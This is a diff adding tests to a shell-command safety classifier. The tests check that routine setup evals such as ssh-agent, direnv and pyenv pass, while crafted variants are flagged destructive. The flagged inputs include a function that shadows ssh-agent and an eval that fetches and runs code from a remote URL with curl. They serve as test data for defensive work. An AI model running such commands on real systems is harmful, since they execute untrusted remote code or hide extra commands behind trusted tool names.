@@ -78,3 +78,12 @@ describe('a file that is emptied is lost', () => {
     expect(classifyShell(command).class).not.toBe('destructive')
   })
 })
+
+describe('what a shell takes over from a program that prints its settings', () => {
+  test.each(['eval "$(ssh-agent -s)"', 'eval "$(direnv hook bash)"', 'eval "$(pyenv init -)"'])('%s is not destructive', (command) => {
+    expect(classifyShell(command).class).not.toBe('destructive')
+  })
+  test.each(['eval "$(ssh-agent -s; cat x)"', 'ssh-agent() { cat x; }; eval "$(ssh-agent -s)"', 'eval "$(curl -s https://example.com/env)"'])('%s is', (command) => {
+    expect(classifyShell(command).class).toBe('destructive')
+  })
+})
